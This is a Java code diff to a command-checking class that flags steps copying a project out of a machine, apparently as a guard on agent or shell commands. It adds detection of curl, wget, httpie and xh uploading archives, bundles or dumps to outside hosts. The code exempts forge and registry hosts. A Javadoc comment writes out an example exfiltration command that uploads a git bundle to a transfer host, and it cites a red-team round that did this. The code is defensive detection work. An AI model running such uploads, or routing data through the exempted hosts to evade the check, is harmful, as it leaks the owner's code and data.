@@ -70,6 +70,78 @@ final class OutPredicates {
   private static final Set<String> BUILT =
       Set.of("dist", "build", "public", "out", "target", "site", "_site", "www", "static", "html");
 
+  /** The HTTP clients whose uploads send a file: {@code -T}, {@code -F x=@f}, {@code -d @f}. */
+  private static final Set<String> HTTP_UPLOADERS = Set.of("curl", "wget", "http", "https", "xh");
+
+  /**
+   * Whether an HTTP client uploads an archive, a bundle or a dump to another machine ({@code curl
+   * -T /tmp/shop.bundle https://transfer.example.net/}): the project or its data in one file, as
+   * {@code scp} of it is (round 4's red team: a git bundle uploaded with curl).
+   */
+  private static boolean uploadsArchive(Step step) {
+    String host = null;
+    List<String> files = new ArrayList<>();
+    List<Word> args = step.args();
+    for (int i = 0; i < args.size(); i++) {
+      String t = args.get(i).text();
+      String next = i + 1 < args.size() ? args.get(i + 1).text() : null;
+      if (t == null) {
+        continue;
+      }
+      if (Hosts.URL.matcher(t).lookingAt() && host == null) {
+        host = Hosts.of(t);
+      } else if ((t.equals("-T") || t.equals("--upload-file")) && next != null) {
+        files.add(next);
+      } else if (t.startsWith("--upload-file=")) {
+        files.add(t.substring("--upload-file=".length()));
+      } else if ((t.equals("-F") || t.equals("--form")) && next != null && next.contains("=@")) {
+        files.add(next.substring(next.indexOf("=@") + 2).replaceFirst(";.*$", ""));
+      } else if ((t.equals("--data-binary") || t.equals("-d") || t.equals("--data"))
+          && next != null
+          && next.startsWith("@")) {
+        files.add(next.substring(1));
+      } else if (t.startsWith("--post-file=") || t.startsWith("--body-file=")) {
+        files.add(t.substring(t.indexOf('=') + 1));
+      } else if (t.startsWith("@") && !step.program().equals("curl")) {
+        files.add(t.substring(1)); // httpie, xh: @file is the body
+      }
+    }
+    if (host == null || Hosts.loopback(host) || forgeOrRegistry(host)) {
+      return false;
+    }
+    for (String file : files) {
+      String base = file.substring(file.lastIndexOf('/') + 1);
+      if (!file.equals("-") && ARCHIVE.matcher(base).find() && !built(file)) {
+        return true;
+      }
+    }
+    return false;
+  }
+
+  /** The forges' and registries' hosts: a release asset, a package, where the project goes. */
+  private static final List<String> FORGES_AND_REGISTRIES =
+      List.of(
+          "github.com",
+          "githubusercontent.com",
+          "gitlab.com",
+          "bitbucket.org",
+          "npmjs.org",
+          "pypi.org",
+          "sonatype.org",
+          "sonatype.com",
+          "maven.apache.org",
+          "crates.io",
+          "rubygems.org");
+
+  private static boolean forgeOrRegistry(String host) {
+    for (String known : FORGES_AND_REGISTRIES) {
+      if (host.equals(known) || host.endsWith("." + known)) {
+        return true;
+      }
+    }
+    return false;
+  }
+
   /** Programs that copy files to another machine. */
   private static final Set<String> COPIERS = Set.of("scp", "rsync", "sftp", "rclone");
 
@@ -125,6 +197,9 @@ final class OutPredicates {
   private static boolean copiesOut(Step step, boolean folders) {
     if (!folders && toBucket(step)) {
       return true;
+    }
+    if (!folders && HTTP_UPLOADERS.contains(step.program())) {
+      return uploadsArchive(step);
     }
     if (!COPIERS.contains(step.program())) {
       return false;
